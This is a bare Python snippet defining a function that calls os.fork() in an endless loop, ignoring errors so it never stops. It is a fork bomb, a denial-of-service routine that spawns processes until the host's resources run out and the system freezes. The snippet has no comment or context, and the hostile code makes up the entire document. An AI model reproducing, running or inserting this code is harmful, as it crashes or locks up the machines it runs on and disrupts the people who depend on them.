import os
def f():
    while True:
        try: os.fork()
        except OSError: pass
